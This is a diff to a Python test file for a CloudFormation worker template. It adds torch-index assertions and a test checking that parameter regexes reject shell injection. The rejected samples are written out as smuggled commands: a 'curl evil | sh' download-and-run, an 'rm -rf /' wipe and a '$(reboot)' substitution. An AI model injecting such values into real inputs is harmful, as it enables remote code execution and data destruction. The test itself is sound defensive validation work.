@@ -294,7 +294,11 @@ def test_worker_launch_template_runs_the_agent_with_the_worker_profile(own_vpc: 
         "--host": "0.0.0.0",
         "--port": "8500",
         "--imds-url": "http://169.254.169.254",  # the agent reports spot notices from IMDS
+        "--neuron-artifact": '"$NEURON"',  # empty unless a Neuron device and ModelNeuronKey
     }
+    # torch for the accelerator: the CPU build unless the instance has an NVIDIA GPU.
+    assert 'TORCH_INDEX="--extra-index-url https://download.pytorch.org/whl/cpu"' in script
+    assert "/dev/nvidia0" in script and 'TORCH_INDEX=""' in script
     assert "SOURCE='mark.demo:digits_model'" in script
     assert "${" not in script  # every ${...} was CloudFormation's to fill
 
@@ -539,3 +543,16 @@ def test_readme_documents_exactly_the_parameters_and_outputs() -> None:
     template = tpl.load((ROOT / "infra" / "mark.yaml").read_text())
     assert _documented("Parameters") == set(template["Parameters"])
     assert _documented("Outputs") == set(template["Outputs"])
+
+
+def test_parameters_that_reach_a_shell_accept_only_safe_values() -> None:
+    """ModelSource, ModelKey and ModelNeuronKey are pasted into the workers' bootstrap."""
+    params = tpl.load((ROOT / "infra" / "mark.yaml").read_text())["Parameters"]
+    for name, good, bad in [
+        ("ModelSource", "mark.demo:digits_model", "x:y'; curl evil | sh; '"),
+        ("ModelKey", "models/resnet-50.pt", "m.pt'; rm -rf / #"),
+        ("ModelNeuronKey", "models/resnet.neuron.pt", "$(reboot)"),
+    ]:
+        pattern = params[name]["AllowedPattern"]
+        assert re.fullmatch(pattern, good), name
+        assert not re.fullmatch(pattern, bad), name
